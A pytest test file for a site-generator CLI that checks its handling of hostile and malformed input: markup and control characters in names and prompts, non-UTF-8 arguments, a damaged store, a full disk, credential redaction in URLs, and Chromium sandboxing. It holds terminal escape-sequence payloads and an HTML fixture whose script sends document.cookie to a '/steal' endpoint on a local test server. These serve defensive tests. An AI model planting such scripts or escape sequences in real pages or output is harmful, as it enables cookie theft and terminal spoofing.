"""Issue 10, item 8: the smaller things, each as a user (or an attacker) would meet it.

Rich markup in a name, --json always one object, a damaged store and a full disk as one-line errors
with nothing left behind, non-UTF-8 arguments, control characters in prompts and names, escape
sequences in build logs, --name limits, credentials inside URLs, Chromium's sandbox and the
preview origin as the only place a page may reach.
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from sitegen.cli.new import validate_name
from sitegen.cli.terminal import Terminal, clean
from sitegen.config import load_settings
from sitegen.errors import SitegenError
from sitegen.pipeline import Event
from tests.conftest import need, run_cli


def new(tmp_path: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return run_cli("new", *args, "--sandbox", "none", "--no-verify", cwd=tmp_path, env=env, timeout=300)


# ------------------------------------------------------------------------------ markup in names
@pytest.mark.parametrize("name", ["Crumb [/]", "[bold]Crumb", "Crumb [/red] & Co", "[link=http://x]Crumb", "C[ru]mb\\"])
def test_markup_in_a_name_never_crashes_with_or_without_json(tmp_path: Path, name: str) -> None:
    r = new(tmp_path, "a bakery in Lyon", "--name", name, "--out", str(tmp_path / "a"))
    assert r.returncode == 0, r.stderr
    assert "internal error" not in r.stderr and "Traceback" not in r.stderr
    assert name in r.stderr  # shown as typed, not interpreted
    r = new(tmp_path, "a bakery in Lyon", "--name", name, "--out", str(tmp_path / "b"), "--json")
    assert r.returncode == 0, r.stderr
    data = json.loads(r.stdout)
    assert data["project"] == name and data["status"] == "done"
    r = run_cli("projects", cwd=tmp_path)
    assert r.returncode == 0 and "internal error" not in r.stderr


def test_json_prints_one_object_even_for_an_internal_error(tmp_path: Path) -> None:
    r = run_cli("status", "j-does-not-exist", "--json", cwd=tmp_path)
    assert r.returncode == 2 and json.loads(r.stdout)["status"] == "error"
    assert len(r.stdout.strip().splitlines()) == 1


# ------------------------------------------------------------------------------ bad input
@pytest.mark.parametrize("prompt", [
    "a bakery \x1b[31min red\x1b[0m", "\x1b]0;pwned\x07a bakery", "a bakery\x08\x08\x08cafe", "\x07\x07\x07",
    "a bakery \u202eenil siht", "\x9b31m bakery",
])
def test_prompts_with_control_characters_are_refused(tmp_path: Path, prompt: str) -> None:
    out = tmp_path / "site"
    r = new(tmp_path, prompt, "--out", str(out), "--json")
    assert r.returncode == 2, r.stderr
    assert "control characters" in json.loads(r.stdout)["error"] or "NUL" in r.stdout
    assert "\x1b" not in r.stderr and not out.exists()


def test_prompts_with_line_breaks_and_tabs_are_fine(tmp_path: Path) -> None:
    r = new(tmp_path, "a bakery in Lyon.\n\tCroissants and coffee.", "--out", str(tmp_path / "s"), "--json")
    assert r.returncode == 0, r.stderr


@pytest.mark.parametrize("name, ok", [("   ", False), ("", False), ("x" * 81, False), ("x" * 80, True),
                                      ("Crumb\x1b[2J", False), ("Café Lumière", True), ("x" * 100_000, False)])
def test_name_is_checked(name: str, ok: bool) -> None:
    if ok:
        assert validate_name(name) == name
    else:
        with pytest.raises(SitegenError) as err:
            validate_name(name)
        assert err.value.exit_code == 2


def test_name_over_the_limit_writes_nothing(tmp_path: Path, sitegen_home: Path) -> None:
    out = tmp_path / "site"
    r = new(tmp_path, "a bakery", "--name", "n" * 100_000, "--out", str(out), "--json")
    assert r.returncode == 2 and "--name" in json.loads(r.stdout)["error"]
    assert not out.exists()


@pytest.mark.parametrize("argv", [
    [b"new", b"caf\xe9 in Lyon"],
    [b"new", b"a bakery", b"--name", b"Cr\xffmb"],
    [b"new", b"a bakery", b"--out", b"/tmp/\xfe\xfe-site"],
    [b"edit", b".", b"make it \xe9green"],
])
def test_non_utf8_arguments_are_exit_2(tmp_path: Path, argv: list[bytes]) -> None:
    env = {**os.environ, "LC_ALL": "C.UTF-8"}
    r = subprocess.run([sys.executable.encode(), b"-m", b"sitegen", *argv, b"--json"], cwd=tmp_path, env=env,
                       capture_output=True, timeout=120)
    assert r.returncode == 2, r.stderr
    data = json.loads(r.stdout)
    assert "UTF-8" in data["error"] and b"internal error" not in r.stderr
    assert not Path(b"/tmp/\xfe\xfe-site".decode("utf-8", "surrogateescape")).exists()


# ------------------------------------------------------------------------------ store and disk
def test_damaged_store_is_a_one_line_error_and_leaves_no_folder(tmp_path: Path, sitegen_home: Path) -> None:
    (sitegen_home / "sitegen.db").write_bytes(b"this is not a database\x00" * 200)
    out = tmp_path / "site"
    for args in (("new", "a bakery", "--out", str(out), "--json"), ("status", "--json"), ("projects", "--json")):
        r = run_cli(*args, cwd=tmp_path)
        assert r.returncode == 2, r.stderr
        data = json.loads(r.stdout)
        assert "database" in data["error"] and data["hint"]
        assert "Traceback" not in r.stderr and "internal error" not in r.stderr
    assert not out.exists()


@pytest.fixture
def full_disk(tmp_path: Path) -> Path:
    """A tiny tmpfs filled to the last byte (needs root, as in CI)."""
    need(hasattr(os, "geteuid") and os.geteuid() == 0, "mounting a tmpfs needs root")
    mnt = tmp_path / "full"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mnt)]).returncode != 0:
        need(False, "cannot mount a tmpfs here")
    (mnt / "home").mkdir()
    fd = os.open(mnt / "fill", os.O_WRONLY | os.O_CREAT, 0o644)
    try:
        while os.write(fd, b"\0" * 4096):
            pass
    except OSError:
        pass
    finally:
        os.close(fd)
    yield mnt
    subprocess.run(["umount", "-l", str(mnt)], check=False)


def test_full_disk_for_the_store_is_one_line_and_leaves_no_folder(tmp_path: Path, full_disk: Path) -> None:
    out = tmp_path / "site"
    r = new(tmp_path, "a bakery in Lyon", "--out", str(out), "--json", env={"SITEGEN_HOME": str(full_disk / "home")})
    assert r.returncode == 2, r.stderr
    data = json.loads(r.stdout)
    assert "full" in data["error"] and data["hint"] and "Traceback" not in r.stderr
    assert not out.exists()


def test_full_disk_for_the_site_fails_the_job_with_a_hint(tmp_path: Path, full_disk: Path) -> None:
    out = full_disk / "site"
    r = new(tmp_path, "a bakery in Lyon", "--out", str(out), "--json")
    assert r.returncode in (1, 2), r.stderr
    data = json.loads(r.stdout)
    assert "full" in data["error"] or "space" in data["error"]
    assert data.get("error_kind") != "internal" and "report the traceback" not in (data.get("hint") or "")


# ------------------------------------------------------------------------------ the terminal
HOSTILE_LOG = "\x1b]0;owned\x07\x1b[2J\x1b[1;1Hcompiled \x1b[31mok\x1b[0m [/] [bold]x\x9b2J \u202etxt.exe"


def test_escape_sequences_from_logs_and_messages_never_reach_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    term = Terminal(verbose=True)
    term.on_event(Event("stage_start", "BUILDING"))
    term.on_event(Event("log", "BUILDING", HOSTILE_LOG))
    term.on_event(Event("info", "BUILDING", HOSTILE_LOG))
    term.on_event(Event("stage_fail", "BUILDING", HOSTILE_LOG))
    term.on_event(Event("stage_end", "PLANNING", "", {"name": "Crumb [/] \x1b[5m", "kind": "bakery", "pages": []}))
    term.error(SitegenError(HOSTILE_LOG, hint=HOSTILE_LOG))
    term.info("plain [/] text \x1b[31m")
    term.table(["name"], [[HOSTILE_LOG]], title="t\x1b[2J")
    captured = capsys.readouterr()
    for stream in (captured.out, captured.err):
        assert "\x1b" not in stream and "\x07" not in stream and "\x9b" not in stream and "\u202e" not in stream
    assert "^[]0;owned" in captured.err and "Crumb [/]" in captured.err


def test_clean_keeps_text_and_shows_controls() -> None:
    assert clean("Café «Lumière» — 10 €\nline two\ttab") == "Café «Lumière» — 10 €\nline two\ttab"
    assert clean("\x1b[31m") == "^[[31m" and clean("\x7f") == "^?" and clean("\u202e") == "<U+202E>"


# ------------------------------------------------------------------------------ credentials in URLs
def test_credentials_inside_urls_are_redacted_in_output_and_store(tmp_path: Path, sitegen_home: Path) -> None:
    from tests.fakes.fake_openai import FakeOpenAI
    from tests.fakes.scenario import Scenario

    with FakeOpenAI(Scenario(pages=1), api_key="") as fake:  # a server behind basic auth in the URL
        url = fake.url.replace("http://", "http://alice:pa55-in-url-xyz@")
        r = new(tmp_path, "a coffee roaster in Lisbon", "--out", str(tmp_path / "s"), "--json",
                env={"OPENAI_BASE_URL": url})
        assert r.returncode == 0, r.stderr[-2000:]
        assert "pa55-in-url-xyz" not in r.stdout + r.stderr
        assert "alice:" not in r.stdout + r.stderr and "***@127.0.0.1" in r.stderr
        doctor = run_cli("doctor", "--json", cwd=tmp_path, env={"OPENAI_BASE_URL": url})
        assert "pa55-in-url-xyz" not in doctor.stdout + doctor.stderr and "***@127.0.0.1" in doctor.stdout
    dump = "\n".join(sqlite3.connect(sitegen_home / "sitegen.db").iterdump())
    assert "pa55-in-url-xyz" not in dump and "alice:pa55" not in dump
    settings = load_settings(flags={"openai_base_url": url})
    assert "pa55-in-url-xyz" in settings.secrets()


# ------------------------------------------------------------------------------ Chromium
def test_chromium_keeps_its_sandbox_unless_root(monkeypatch: pytest.MonkeyPatch) -> None:
    from sitegen.verify import browser

    assert "--no-sandbox" not in browser.CHROMIUM_ARGS
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    assert browser.chromium_sandbox() is True
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    assert browser.chromium_sandbox() is False


def test_page_requests_reach_only_the_preview_origin(tmp_path: Path) -> None:
    """Page script tries another port on 127.0.0.1 (a local service): every such request is aborted
    in the browser, so the service sees nothing."""
    from sitegen.verify.browser import find_chromium, verify_site
    from tests.fakes.local_server import RoutedFake

    try:
        find_chromium()
    except SitegenError:
        need(False, "Chromium is not installed")

    class Service(RoutedFake):
        def route(self, method: str, path: str, body: object, headers: dict[str, str]) -> tuple[int, object]:
            return 200, {"ok": True}

    with Service() as service:
        out = tmp_path / "out"
        out.mkdir()
        (out / "index.html").write_text(f"""<!doctype html><html lang="en"><head><title>Crumb</title></head>
<body><main><h1>Crumb</h1><img alt="pixel" src="{service.url}/pixel.png">
<script>
fetch("{service.url}/steal?c=" + document.cookie).catch(() => {{}});
new Image().src = "{service.url}/beacon";
try {{ new WebSocket("{service.url.replace('http', 'ws')}/ws"); }} catch (e) {{}}
</script></main></body></html>""")
        report = verify_site(out, ["/"], tmp_path / "shots", a11y=False)
        assert service.requests == []
    failed = " ".join(report.pages[0].failed_requests)
    assert str(service.url.split("//")[1]) in failed
